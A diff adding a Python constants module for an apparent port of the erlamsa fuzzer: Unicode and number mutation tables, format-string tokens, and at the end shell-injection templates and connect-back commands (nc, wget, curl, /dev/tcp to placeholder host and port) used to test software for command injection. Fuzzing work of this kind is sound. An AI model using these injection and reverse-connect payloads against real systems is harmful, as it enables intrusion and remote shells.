@@ -1,0 +1,112 @@
+"""Shared constant tables (pure Python/numpy — no JAX import) used by both
+the oracle and the device kernels."""
+
+from __future__ import annotations
+
+import numpy as np
+
+
+def encode_point(point: int) -> list[int]:
+    """Codepoint -> UTF-8 bytes (erlamsa_mutations.erl:1034-1049)."""
+    ext = lambda n: (n & 0x3F) | 0x80
+    if point < 0x80:
+        return [point]
+    if point < 0x800:
+        return [0xC0 | (0x1F & (point >> 6)), ext(point)]
+    if point < 0x10000:
+        return [0xE0 | (0x0F & (point >> 12)), ext(point >> 6), ext(point)]
+    return [
+        0xF0 | (0x7 & (point >> 18)),
+        ext(point >> 12),
+        ext(point >> 6),
+        ext(point),
+    ]
+
+
+def funny_unicode() -> list[list[int]]:
+    """The "funny unicode" sequences in the reference's list order
+    (erlamsa_mutations.erl:1054-1078): manual entries, then encoded
+    codepoints built by a fold that prepends (so Codes order reverses, with
+    ranges expanded in ascending order)."""
+    manual = [
+        [239, 191, 191],
+        [240, 144, 128, 128],
+        [0xEF, 0xBB, 0xBF],
+        [0xFE, 0xFF],
+        [0xFF, 0xFE],
+        [0, 0, 0xFF, 0xFF],
+        [0xFF, 0xFF, 0, 0],
+        [43, 47, 118, 56],
+        [43, 47, 118, 57],
+        [43, 47, 118, 43],
+        [43, 47, 118, 47],
+        [247, 100, 76],
+        [221, 115, 102, 115],
+        [14, 254, 255],
+        [251, 238, 40],
+        [251, 238, 40, 255],
+        [132, 49, 149, 51],
+    ]
+    codes = [
+        [0x0009, 0x000D], 0x008D, 0x00A0, 0x1680, 0x180E,
+        [0x2000, 0x200A], 0x2028, 0x2029, 0x202F, 0x205F,
+        0x3000, [0x200E, 0x200F], [0x202A, 0x202E],
+        [0x200C, 0x200D], 0x0345, 0x00B7, [0x02D0, 0x02D1],
+        0xFF70, [0x02B0, 0x02B8], 0xFDD0, 0x034F,
+        [0x115F, 0x1160], [0x2065, 0x2069], 0x3164, 0xFFA0,
+        0xE0001, [0xE0020, 0xE007F],
+        [0x0E40, 0x0E44], 0x1F4A9,
+    ]
+    numbers: list[int] = []
+    for c in codes:
+        if isinstance(c, list):
+            numbers = list(range(c[0], c[1] + 1)) + numbers
+        else:
+            numbers.insert(0, c)
+    return manual + [encode_point(x) for x in numbers]
+
+
+def funny_unicode_np() -> tuple[np.ndarray, np.ndarray]:
+    """Padded table + lengths for the device kernel."""
+    seqs = funny_unicode()
+    maxlen = max(len(s) for s in seqs)
+    table = np.zeros((len(seqs), maxlen), dtype=np.uint8)
+    lens = np.empty(len(seqs), dtype=np.int32)
+    for i, s in enumerate(seqs):
+        table[i, : len(s)] = s
+        lens[i] = len(s)
+    return table, lens
+
+
+def interesting_numbers() -> list[int]:
+    """2^k +/- 1 family in the reference's fold order
+    (erlamsa_mutations.erl:67-75): foldl prepending [X-1, X, X+1 | Acc]."""
+    acc: list[int] = []
+    for k in [1, 7, 8, 15, 16, 31, 32, 63, 64, 127, 128]:
+        x = 1 << k
+        acc = [x - 1, x, x + 1] + acc
+    return acc
+
+
+SILLY_STRINGS = [
+    "%n", "%n", "%s", "%d", "%p", "%#x", "\x00", "aaaa%d%n",
+    "\n", "\r", "\t", "\x08",
+]
+
+DELIMETERS = [
+    "'", '"', "'", '"', "'", '"', "&", ":", "|", ";",
+    "\\", "\n", "\r", "\t", " ", "`", "\x00", "]", "[", ">", "<",
+]
+
+SHELL_INJECTS = [
+    "';{};'", '";{};"', ";{};", "|{}#",
+    "^ {} ^", "& {} &", "&& {} &&", "|| {} ||",
+    "%0D{}%0D", "`{}`",
+]
+
+REV_CONNECTS = [
+    "calc.exe & notepad.exe {host} {port} ", "nc {host} {port}",
+    "wget http://{host}:{port}", "curl {host} {port}",
+    "exec 3<>/dev/tcp/{host}/{port}", "sleep 100000 # {host} {port} ",
+    "echo>/tmp/erlamsa.{host}.{port}",
+]
